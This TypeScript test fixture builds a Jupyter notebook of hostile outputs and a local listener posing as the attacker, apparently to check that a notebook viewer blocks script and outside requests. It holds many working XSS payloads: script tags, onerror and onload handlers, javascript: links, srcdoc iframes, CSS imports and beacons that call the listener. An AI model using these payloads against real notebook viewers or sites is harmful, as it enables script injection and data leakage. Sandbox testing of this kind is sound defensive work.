/**
 * A notebook that wants out, and the place where it wants to go.
 *
 * The attacker is a listener on this machine that writes down whatever reaches it. Each trick of the notebook has its
 * own path there, and sets its own mark on `window`, so that a failure says which one got through.
 */
import dgram from 'node:dgram';
import http from 'node:http';
import type { Socket } from 'node:net';
import { listen } from './ports.ts';

export interface Attacker {
  readonly url: string;
  /** `host:port` of a socket that counts datagrams, as a STUN server would get them. */
  readonly datagramHost: string;
  /** What was asked for since the last call, in order; `connection` and `datagram` for what came without a request. */
  takeRequests(): string[];
  stop(): Promise<void>;
}

export async function startAttacker(): Promise<Attacker> {
  let requests: string[] = [];
  const spoken = new WeakSet<Socket>();
  const server = http.createServer((request, response) => {
    spoken.add(request.socket);
    requests.push(`${request.method} ${request.url}`);
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.end('alert(1)');
  });
  // A preconnect opens a connection and says nothing on it.
  server.on('connection', (socket) => {
    socket.once('close', () => {
      if (!spoken.has(socket)) requests.push('connection');
    });
  });
  const datagrams = dgram.createSocket('udp4');
  datagrams.on('message', () => requests.push('datagram'));
  await new Promise<void>((resolve) => datagrams.bind(0, '127.0.0.1', resolve));
  const port = await listen(server);
  return {
    url: `http://127.0.0.1:${port}`,
    datagramHost: `127.0.0.1:${datagrams.address().port}`,
    takeRequests: () => {
      const taken = requests;
      requests = [];
      return taken;
    },
    stop: async () => {
      server.closeAllConnections();
      datagrams.close();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

const mark = (name: string): string => `(window.attacked=(window.attacked||[])).push('${name}')`;

function hostileHtml(url: string, from: string): string {
  return [
    `<p>hostile html ${from}</p>`,
    `<script>${mark('script')};new Image().src='${url}/script'</script>`,
    `<script src="${url}/script.js"></script>`,
    `<img src="x:" onerror="${mark('onerror')};new Image().src='${url}/onerror'">`,
    `<img src="${url}/img.png"><img srcset="${url}/srcset.png 1x">`,
    `<svg onload="${mark('svg-onload')}"><script>${mark('svg-script')}</script><image href="${url}/svg-image"/></svg>`,
    `<iframe src="${url}/frame"></iframe>`,
    `<iframe srcdoc="<script>parent.${mark('srcdoc').slice(1)}</script>"></iframe>`,
    `<form action="${url}/form" target="_top"><button name="b">hostile button ${from}</button></form>`,
    `<meta http-equiv="refresh" content="0;url=${url}/refresh">`,
    `<base href="${url}/base/">`,
    `<style>@import url("${url}/import.css");body{background:url("${url}/background.png")}</style>`,
    `<link rel="stylesheet" href="${url}/link.css"><link rel="prefetch" href="${url}/prefetch">`,
    `<link rel="dns-prefetch" href="${url}"><link rel="preconnect" href="${url}">`,
    `<div style="background-image:url('${url}/style.png')">styled</div>`,
    `<object data="${url}/object"></object><embed src="${url}/embed">`,
    `<video src="${url}/video" autoplay></video><audio src="${url}/audio" autoplay></audio>`,
    `<a href="javascript:${mark('javascript-link')}">javascript link ${from}</a>`,
    `<a href="${url}/ping-link" ping="${url}/ping" target="_blank">plain link ${from}</a>`,
    `<div onmouseover="${mark('mouseover')}" onclick="${mark('click')}">hover ${from}</div>`,
  ].join('\n');
}

const svg = (url: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20" onload="${mark('image-onload')}">` +
  `<script>${mark('image-script')};fetch('${url}/svg-output')</script>` +
  `<image href="${url}/svg-output-image" width="9" height="9"/><rect width="40" height="20"/></svg>`;

const markdown = (url: string): string =>
  [
    '# hostile markdown',
    `<script>${mark('markdown-script')}</script>`,
    `<img src="x:" onerror="${mark('markdown-onerror')}">`,
    `![image](${url}/markdown.png)`,
    `[javascript in markdown](javascript:${mark('markdown-link')})`,
    `<iframe src="${url}/markdown-frame"></iframe>`,
    `$\\href{javascript:${mark('math-link')}}{x+y}$`,
    `$\\style{background:url(${url}/math.png)}{z}$`,
  ].join('\n\n');

const script = (url: string): string => `${mark('javascript-output')};fetch('${url}/javascript-output')`;

/** The same outputs twice: as they stand in the file, and made by running a cell, which JupyterLab calls trusted. */
export function hostileNotebook(url: string): Record<string, unknown> {
  const bundles = (from: string): Record<string, unknown>[] => [
    { 'text/html': hostileHtml(url, from) },
    { 'image/svg+xml': svg(url) },
    { 'text/markdown': markdown(url) },
    { 'text/latex': `$\\href{javascript:${mark('latex-link')}}{a}$` },
    { 'application/javascript': script(url) },
  ];
  const source = [
    'import json',
    'from IPython.display import display',
    `for data in json.loads(${JSON.stringify(JSON.stringify(bundles('run')))}):`,
    '    display(data, raw=True)',
  ].join('\n');
  return {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: { kernelspec: { name: 'python3', display_name: 'Python 3', language: 'python' } },
    cells: [
      { id: 'markdown', cell_type: 'markdown', metadata: {}, source: markdown(url) },
      {
        id: 'saved',
        cell_type: 'code',
        metadata: { trusted: true },
        source: '# saved outputs',
        execution_count: 1,
        outputs: bundles('saved').map((data) => ({ output_type: 'display_data', metadata: {}, data })),
      },
      { id: 'run', cell_type: 'code', metadata: {}, source, execution_count: null, outputs: [] },
    ],
  };
}
